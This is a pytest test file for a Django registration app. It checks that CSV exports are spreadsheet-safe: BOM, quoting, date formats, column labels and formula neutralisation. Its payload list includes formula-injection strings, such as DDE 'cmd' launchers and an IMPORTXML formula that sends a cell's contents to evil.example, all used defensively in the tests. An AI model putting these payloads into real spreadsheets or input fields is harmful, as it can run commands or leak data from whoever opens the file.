"""CSV exports open safely in a spreadsheet: columns, BOM, quoting, formula neutralisation."""

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from registrations.exports import (
    APPLICATIONS,
    MEETINGS,
    REGISTRATIONS,
    SURVEY_RESPONSES,
    csv_text_chunks,
    encoded,
    export_csv_chunks,
    spreadsheet_safe,
)
from registrations.models import (
    AttendanceIntent,
    AttendanceMode,
    ExpressionOfInterest,
    Invitation,
    Registration,
    RegistrationStatus,
    SurveyResponse,
)
from tests.factories import (
    make_application,
    make_call,
    make_event,
    make_registration,
    make_session,
    make_stored_application,
    make_survey_response,
    sectors,
)
from tests.helpers import assert_streams_five_rows_lazily

pytestmark = pytest.mark.django_db

FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "+49 30 1234567",
]
READABLE = ["-5", "3.14", "+7", "-0.5", "1e3", "foo@example.org", "Müller", "50%", "a=b"]


def read_csv(document: str) -> list[list[str]]:
    assert document.startswith("\ufeff")
    return list(csv.reader(io.StringIO(document[1:], newline="")))


def registrations_csv(event) -> list[dict[str, str]]:
    rows = read_csv(
        "".join(export_csv_chunks(REGISTRATIONS, Registration.objects.filter(event=event)))
    )
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def export_text_cells(values: list[str]) -> list[dict[str, str]]:
    """Each value in every free-text column of a registration (and a session title)."""
    event = make_event()
    for value in values:
        make_registration(
            event,
            first_name=value,
            last_name=value,
            organisation=value,
            job_title=value,
            dietary_needs=value,
            sessions=[make_session(event, title=value)],
        )
    return registrations_csv(event)


TEXT_COLUMNS = ["First name", "Last name", "Organisation", "Job title", "Dietary needs", "Sessions"]


def test_formula_payloads_are_neutralised_and_read_back_with_the_csv_module():
    rows = export_text_cells(FORMULA_PAYLOADS)
    expected = {"'" + payload for payload in FORMULA_PAYLOADS}
    for column in TEXT_COLUMNS:
        assert {row[column] for row in rows} == expected, column


def test_numbers_and_emails_stay_readable():
    rows = export_text_cells(READABLE)
    for column in TEXT_COLUMNS:
        assert {row[column] for row in rows} == set(READABLE), column
    assert rows[0]["Registration ID"].isdigit()
    assert [spreadsheet_safe(v) for v in ["", "   ", " x", " -5"]] == ["", "   ", " x", " -5"]
    assert spreadsheet_safe(" =1") == "' =1"


def test_registration_columns_labels_dates_and_joined_sessions():
    event = make_event(title="Cluster Forum Łódź", timezone="Europe/Warsaw")
    opening = make_session(event, title="Opening plenary")
    later = make_session(
        event, title="Matchmaking, round 2", start=event.start + timedelta(hours=5)
    )
    make_session(event, title="Not chosen", start=event.start + timedelta(hours=3))
    registered = datetime(2030, 3, 1, 8, 30, tzinfo=ZoneInfo("UTC"))
    make_registration(
        event,
        first_name="Jürgen",
        last_name="Müller",
        email="j.mueller@example.org",
        organisation='Cluster "Nord", Łódź\nBranch',
        country="PL",
        attendance_mode=AttendanceMode.ONLINE,
        status=RegistrationStatus.WAITLISTED,
        sessions=[later, opening],
        created_at=registered,
    )

    [row] = registrations_csv(event)

    assert list(row) == [
        "Registration ID", "Event", "First name", "Last name", "Email", "Organisation",
        "Organisation type", "Job title", "Country", "Attendance mode", "Status", "Sessions",
        "Accessibility needs", "Dietary needs", "Source", "Registered at",
        "Joined waiting list at", "Cancelled at", "Last changed at", "Privacy notice version",
        "Consent given at", "Language",
    ]  # fmt: skip
    assert row["Event"] == "Cluster Forum Łódź"
    assert (row["First name"], row["Last name"]) == ("Jürgen", "Müller")
    assert row["Organisation"] == 'Cluster "Nord", Łódź\nBranch'
    assert row["Organisation type"] == "Cluster organisation"
    assert row["Country"] == "Poland"
    assert row["Attendance mode"] == "Online"
    assert row["Status"] == "Waiting list"
    assert row["Sessions"] == "Opening plenary; Matchmaking, round 2"
    assert row["Source"] == "Direct"
    assert row["Registered at"] == "2030-03-01T09:30:00+01:00"  # Warsaw, winter time
    assert row["Joined waiting list at"] == ""


def test_rows_come_oldest_first_and_only_for_the_given_queryset():
    event, other = make_event(), make_event()
    first = make_registration(event, created_at=datetime(2030, 1, 1, tzinfo=ZoneInfo("UTC")))
    second = make_registration(event, created_at=datetime(2030, 1, 2, tzinfo=ZoneInfo("UTC")))
    make_registration(other)
    rows = registrations_csv(event)
    assert [row["Registration ID"] for row in rows] == [str(first.pk), str(second.pk)]


def test_survey_response_columns():
    event = make_event(timezone="Europe/Helsinki")
    make_survey_response(
        event,
        first_name="Aino",
        last_name="Järvenpää",
        intent=AttendanceIntent.UNDECIDED,
        notify_when_registration_opens=True,
        comment='=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    )
    rows = read_csv("".join(export_csv_chunks(SURVEY_RESPONSES, SurveyResponse.objects.all())))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert rows[0][:3] == ["Response ID", "Event", "First name"]
    assert row["Last name"] == "Järvenpää"
    assert row["Attendance intent"] == "Not sure yet"
    assert row["Notify when registration opens"] == "Yes"
    assert row["Comment"].startswith("'=IMPORTXML")
    assert row["Submitted at"].endswith(("+02:00", "+03:00"))


def test_application_columns_join_sectors_by_name():
    event = make_event(title="Intra-European Cluster Matchmaking")
    chosen = sectors("Textiles", "Agrifood", "Digital")
    make_stored_application(event, sectors=chosen, members_count=125, legal_name="Klaster Łódź")
    rows = read_csv("".join(export_csv_chunks(APPLICATIONS, ExpressionOfInterest.objects.all())))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Declarations confirmed"] == ""
    assert row["Invitation"] == "not invited"
    assert row["Legal name"] == "Klaster Łódź"
    assert row["Sectors"] == "Agrifood; Digital; Textiles"
    assert row["Number of members"] == "125"
    assert row["Organisation type"] == "Cluster organisation"
    assert row["Review status"] == "Submitted"
    assert row["ECCP registration requested"] == "No"


def test_writer_quotes_commas_quotes_and_newlines_for_excel():
    rows = [["Müller, Jürgen", 'Say "hi"', "line one\nline two", 42]]
    document = "".join(csv_text_chunks(["A", "B", "C", "D"], rows))
    assert document == (
        '\ufeffA,B,C,D\r\n"Müller, Jürgen","Say ""hi""","line one\nline two",42\r\n'
    )
    assert read_csv(document)[1] == ["Müller, Jürgen", 'Say "hi"', "line one\nline two", "42"]


def test_encoded_output_is_utf8_with_bom_and_excel_line_endings():
    event = make_event()
    make_registration(event, last_name="Müller")
    data = b"".join(encoded(export_csv_chunks(REGISTRATIONS, Registration.objects.all())))
    assert data.startswith(b"\xef\xbb\xbfRegistration ID,Event,")
    assert "Müller".encode() in data
    assert b"\r\n" in data


def test_export_streams_lazily_in_batches(monkeypatch):
    """The query is read in chunks, and a batch of output needs only its own rows."""
    event = make_event()
    for _ in range(5):
        make_registration(event)
    assert_streams_five_rows_lazily(REGISTRATIONS, Registration.objects.all(), monkeypatch)


def test_application_columns_declarations_and_invitation_state():
    call = make_call()
    declarations = list(call.declarations.all())
    applications = {
        state: make_application(call, legal_name=f"Klaster Łódź {state}")
        for state in ["not invited", "invited", "registered", "withdrawn"]
    }
    applications["not invited"].declarations_confirmed.set(declarations[:1])
    for state in ["invited", "registered", "withdrawn"]:
        Invitation.objects.create(application=applications[state])
    now = datetime(2030, 3, 1, 9, tzinfo=ZoneInfo("UTC"))
    Invitation.objects.filter(application=applications["registered"]).update(used_at=now)
    Invitation.objects.filter(application=applications["withdrawn"]).update(revoked_at=now)

    rows = read_csv("".join(export_csv_chunks(APPLICATIONS, ExpressionOfInterest.objects.all())))

    by_name = {row[2]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    for state, application in applications.items():
        assert by_name[application.legal_name]["Invitation"] == state
    assert by_name["Klaster Łódź not invited"]["Declarations confirmed"] == declarations[0].text
    assert by_name["Klaster Łódź invited"]["Declarations confirmed"] == "; ".join(
        declaration.text for declaration in declarations
    )


@pytest.mark.parametrize("kind", [SURVEY_RESPONSES, REGISTRATIONS, APPLICATIONS, MEETINGS])
def test_readme_documents_the_columns(kind):
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    headers = [column.header for column in kind.columns(kind.model.objects.none())]
    assert f"| `{kind.slug}` | {', '.join(headers)} |" in readme
